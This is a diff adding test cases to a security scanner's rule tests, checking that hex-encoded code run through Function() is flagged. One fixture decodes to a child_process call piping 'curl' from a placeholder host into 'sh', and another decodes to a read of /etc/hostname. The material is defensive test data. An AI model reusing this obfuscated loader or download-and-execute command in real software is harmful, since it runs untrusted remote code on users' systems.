@@ -96,5 +96,17 @@ ruleTest(rule, {
       ].join('\n'),
       findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /executes data read from a non-code file/ }],
     },
+    {
+      name: 'hex-decoded code that is itself a downloader (curl | sh): critical',
+      file: 'index.js',
+      code: "const cfg = '7265717569726528276368696c645f70726f6365737327292e6578656328276375726c202d732068747470733a2f2f63646e2e6578616d706c652e696e76616c69642f79207c2073682729';\nFunction(Buffer.from(cfg, 'hex').toString())();\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s https://cdn.example.invalid/y | sh')" }],
+    },
+    {
+      name: 'hex-decoded code with Node capabilities but no download: high',
+      file: 'index.js',
+      code: "const cfg = '726571756972652827667327292e7265616446696c6553796e6328272f6574632f686f73746e616d65272c2027757466382729';\nFunction(Buffer.from(cfg, 'hex').toString())();\n",
+      findings: [{ line: 2, severity: 'high', confidence: 'high' }],
+    },
   ],
 });
